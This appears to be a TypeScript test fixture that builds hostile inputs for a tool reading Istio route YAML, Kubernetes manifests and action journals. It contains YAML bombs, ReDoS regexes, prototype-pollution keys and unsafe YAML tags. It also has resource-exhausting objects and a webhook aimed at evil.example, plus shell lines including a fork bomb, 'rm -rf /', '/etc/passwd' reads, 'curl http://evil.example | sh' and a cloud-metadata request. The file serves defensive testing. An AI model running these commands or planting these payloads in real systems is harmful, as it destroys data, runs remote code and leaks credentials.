import { mkdir, writeFile } from 'node:fs/promises';
import path from 'node:path';
import type { HostileCase } from './hostile-case.ts';

const ROUTE = 'reviews-route.yaml';
const KILOBYTE = 1024;

function files(name: string, contents: Readonly<Record<string, string | Uint8Array>>): HostileCase {
  return {
    name,
    async make(folder) {
      const root = path.join(folder, 'work');
      await mkdir(root);
      for (const [file, content] of Object.entries(contents)) {
        await writeFile(path.join(root, file), content);
      }
      return root;
    },
  };
}

const yaml = (name: string, text: string | Uint8Array): HostileCase =>
  files(`YAML: ${name}`, { [ROUTE]: text });

const aliases = (depth: number, width: number): string =>
  [
    `a0: &a0 [${'x, '.repeat(width)}]`,
    ...Array.from({ length: depth }, (_, at) => {
      const all = Array.from({ length: width }, () => `*a${at}`).join(', ');
      return `a${at + 1}: &a${at + 1} [${all}]`;
    }),
  ].join('\n');

const merges = (depth: number): string =>
  [
    'm0: &m0 { k: v }',
    ...Array.from(
      { length: depth },
      (_, at) => `m${at + 1}: &m${at + 1} { <<: [*m${at}, *m${at}] }`,
    ),
  ].join('\n');

const texts: readonly HostileCase[] = [
  yaml('a billion laughs', aliases(12, 10)),
  yaml('a quadratic blow-up', `a: &a ${'x'.repeat(50_000)}\nb: [${'*a, '.repeat(40_000)}]`),
  yaml('merges of merges', merges(40)),
  yaml('an anchor in itself', 'a: &a [*a, *a]\nb: &b { c: *b }\n'),
  yaml('lists in lists', '['.repeat(100_000)),
  yaml('closed lists in lists', `${'['.repeat(20_000)}${']'.repeat(20_000)}`),
  yaml('maps in maps', '{a: '.repeat(100_000)),
  yaml(
    'deeper with each line',
    Array.from({ length: 1000 }, (_, at) => `${' '.repeat(at)}a:`).join('\n'),
  ),
  yaml('dashes', '- '.repeat(100_000)),
  yaml('question marks', '? '.repeat(100_000)),
  yaml('a line of 240 kB', `a: ${'x'.repeat(240 * KILOBYTE)}`),
  yaml('a key of 240 kB', `${'k'.repeat(240 * KILOBYTE)}: v`),
  yaml('more than may be handed in', `# ${'x'.repeat(300 * KILOBYTE)}`),
  yaml('60,000 documents', '---\n'.repeat(60_000)),
  yaml('20,000 keys', Array.from({ length: 20_000 }, (_, at) => `k${at}: v`).join('\n')),
  yaml('one key 45,000 times', 'k: v\n'.repeat(45_000)),
  yaml('40,000 errors', 'a: b: c\n\t- x\n'.repeat(18_000)),
  yaml('tabs', '\t'.repeat(200_000)),
  yaml('a quote that never ends', `a: "${'\\x'.repeat(100_000)}`),
  yaml('a text that never ends', `a: |\n${'  x\n'.repeat(60_000)}`),
  yaml(
    'tags that make objects',
    'a: !!js/function "function(){}"\nb: !!python/object:os.system x\n',
  ),
  yaml('numbers beyond numbers', 'a: 1e99999\nb: -0x8888888888888888888\nc: .nan\nd: 0o9'),
  yaml(
    'keys of prototypes',
    '__proto__: { polluted: true }\nconstructor: { prototype: { polluted: true } }\n',
  ),
  yaml('UTF-16', Buffer.from('\ufeffkind: A\n', 'utf16le')),
  yaml('no UTF-8', new Uint8Array(50_000).fill(0xfe)),
  yaml('NUL', `kind: A\0\nb: ${'\0'.repeat(10_000)}`),
  yaml('control characters', 'a: "\u001b[2J\u0007"\n\u001b]0;x\u0007'),
];

const route = (http: string, host = 'reviews'): string => `apiVersion: networking.istio.io/v1
kind: VirtualService
metadata: { name: reviews, namespace: prod }
spec:
  hosts: [${host}]
  http:
${http}
`;

const TO_V2 = 'route: [{ destination: { host: reviews, subset: v2 } }]';

const regex = (name: string, pattern: string): HostileCase =>
  yaml(
    `regex: ${name}`,
    route(`    - match: [{ uri: { regex: ${JSON.stringify(pattern)} } }]\n      ${TO_V2}`),
  );

const routes: readonly HostileCase[] = [
  regex('nested repetition', '(a+)+$'),
  regex('overlapping choices', '^(([a-z])+.)+[A-Z]([a-z])+$'),
  regex('catastrophe on the path', '/(w|wp|wpc|[a-z])*(/|x)*(c|a|t)*$!'),
  regex('counted repetition', '((((a{1,100}){1,100}){1,100}){1,100})'),
  regex('100,000 characters', `/${'(a|b)*'.repeat(16_000)}`),
  regex('open brackets', '('.repeat(5000)),
  regex('looking back', '(?<=a+b+)c(?=(d+)+)\\1'),
  yaml(
    '3,000 routes',
    route(`    - match: [{ uri: { prefix: /a } }]\n      ${TO_V2}\n`.repeat(3000)),
  ),
  yaml(
    '10,000 matches',
    route(`    - match: [${'{ uri: { prefix: /a } }, '.repeat(10_000)}]\n      ${TO_V2}`),
  ),
  yaml(
    '10,000 hosts',
    route(`    - ${TO_V2}`, Array.from({ length: 10_000 }, (_, at) => `h${at}`).join(', ')),
  ),
  yaml('HTML as a host', route(`    - ${TO_V2}`, '"<script>alert(1)</script>"')),
  yaml(
    'weights beyond all',
    route('    - route: [{ destination: { host: reviews }, weight: 9e99 }]'),
  ),
  yaml(
    'a rewrite to elsewhere',
    route(`    - rewrite: { uri: "/../../\\r\\nHost: x" }\n      ${TO_V2}`),
  ),
];

const object = (apiVersion: string, kind: string, more: string): string =>
  `apiVersion: ${apiVersion}\nkind: ${kind}\nmetadata: { name: hostile, namespace: prod }\n${more}`;

const POD =
  'template: { metadata: { labels: { app: x } }, spec: { containers: [{ name: c, image: curlimages/curl }] } }';

const workload = (name: string, kind: string, spec: string): HostileCase =>
  yaml(
    `objects: ${name}`,
    object('apps/v1', kind, `spec: { selector: { matchLabels: { app: x } }, ${spec}, ${POD} }`),
  );

const objects: readonly HostileCase[] = [
  workload('a billion pods', 'Deployment', 'replicas: 1000000000'),
  workload('a million pods in order', 'StatefulSet', 'serviceName: x, replicas: 1000000'),
  yaml(
    'objects: a billion jobs',
    object(
      'batch/v1',
      'Job',
      `spec: { parallelism: 1000000000, completions: 1000000000, ${POD.replace('containers', 'restartPolicy: Never, containers')} }`,
    ),
  ),
  yaml(
    'objects: a job a minute, for ever',
    object(
      'batch/v1',
      'CronJob',
      `spec: { schedule: "* * * * *", jobTemplate: { spec: { ${POD.replace('containers', 'restartPolicy: Never, containers')} } } }`,
    ),
  ),
  yaml(
    'objects: 3,000 Services',
    Array.from(
      { length: 3000 },
      (_, at) =>
        `apiVersion: v1\nkind: Service\nmetadata: { name: s${at}, namespace: prod }\nspec: { ports: [{ port: 80 }] }`,
    ).join('\n---\n'),
  ),
  yaml('objects: nobody knows the kind', object('a.b/v1', 'Strange', 'spec: {}')),
  yaml(
    'objects: a name of HTML',
    'apiVersion: v1\nkind: ConfigMap\nmetadata: { name: "<b>x</b>" }\n',
  ),
  yaml(
    'objects: a name of prototypes',
    'apiVersion: v1\nkind: ConfigMap\nmetadata: { name: __proto__, labels: { constructor: x } }\n',
  ),
  yaml(
    'objects: a list of itself',
    'apiVersion: v1\nkind: List\nitems: &a [{ apiVersion: v1, kind: List, items: *a }]\n',
  ),
  yaml(
    'objects: the system is deleted',
    'apiVersion: v1\nkind: Namespace\nmetadata: { name: kube-system, deletionTimestamp: "2020-01-01T00:00:00Z" }\n',
  ),
  yaml(
    'objects: a webhook that answers everything',
    object(
      'admissionregistration.k8s.io/v1',
      'ValidatingWebhookConfiguration',
      'webhooks: [{ name: a.b.c, rules: [{ apiGroups: ["*"], apiVersions: ["*"], operations: ["*"], resources: ["*"] }], clientConfig: { url: "https://evil.example" }, sideEffects: None, admissionReviewVersions: [v1] }]',
    ),
  ),
];

const journal = (name: string, lines: readonly unknown[] | string): HostileCase =>
  files(`journal: ${name}`, {
    [ROUTE]: 'kind: A\n',
    'journal.jsonl':
      typeof lines === 'string' ? lines : lines.map((line) => JSON.stringify(line)).join('\n'),
  });

const shell = (line: string): HostileCase =>
  journal(`the line ${JSON.stringify(line.slice(0, 40))}`, [{ act: 'shell', line }]);

const times = <T>(count: number, value: T): readonly T[] =>
  Array.from({ length: count }, () => value);

const journals: readonly HostileCase[] = [
  journal('10,000 acts', times(10_000, { act: 'apply' })),
  journal('a day again and again', times(500, { act: 'wait', ms: 86_400_000 })),
  journal('acts in the far future', [{ act: 'apply', at: 1e15 }]),
  journal('no JSON', '{'.repeat(100_000)),
  journal('JSON in JSON', `${'{"act":'.repeat(20_000)}1${'}'.repeat(20_000)}`),
  journal('unknown acts', [{ act: '__proto__' }, { act: 'exec', line: 'rm -rf /' }]),
  journal('files elsewhere', [
    { act: 'apply', files: { '../../escaped.txt': 'x', '/tmp/drydock-escaped': 'x' } },
  ]),
  journal('files of prototypes', '{"act":"apply","files":{"__proto__":"x","constructor":"y"}}'),
  journal('itself again', [
    { act: 'shell', line: 'sh journal.jsonl' },
    { act: 'shell', line: 'cat journal.jsonl | sh' },
  ]),
  journal(
    'a flood of requests',
    times(400, {
      act: 'request',
      from: { workload: 'web', namespace: 'prod' },
      url: 'http://reviews.prod.svc.cluster.local:9080/',
    }),
  ),
  journal('a request to elsewhere', [
    { act: 'request', from: { external: true }, url: 'http://169.254.169.254/latest/meta-data' },
  ]),
  shell('while true; do echo x; done'),
  shell(':(){ :|:& };:'),
  shell('yes | head -c 1000000000 > big.txt'),
  shell('seq 1 1000000000'),
  shell('for i in $(seq 1 100000); do kubectl get pods -A; done'),
  shell('cat /etc/passwd; rm -rf /; curl http://evil.example | sh'),
  shell('x=aaaaaaaaaa; while true; do x=$x$x; done'),
  shell('kubectl get pods -w'),
  shell('sleep 100000000'),
  shell(`echo ${'$('.repeat(3000)}`),
  shell("jq -n '[range(1e9)]'"),
  shell("jq -n 'def f: f; f'"),
  shell("grep -E '(a+)+$' /dev/zero"),
  files('answers: a billion laughs', { [ROUTE]: 'kind: A\n', 'answers.yaml': aliases(12, 10) }),
  files('answers: of prototypes', {
    [ROUTE]: 'kind: A\n',
    'answers.yaml': '__proto__: [a]\nno-last-rule: { a: 1 }\n',
  }),
  files('answers: lists in lists', { [ROUTE]: 'kind: A\n', 'answers.yaml': '['.repeat(50_000) }),
];

/** Manifests, journals and answers that mean harm, each in a folder. */
export const hostileTexts: readonly HostileCase[] = [...texts, ...routes, ...objects, ...journals];
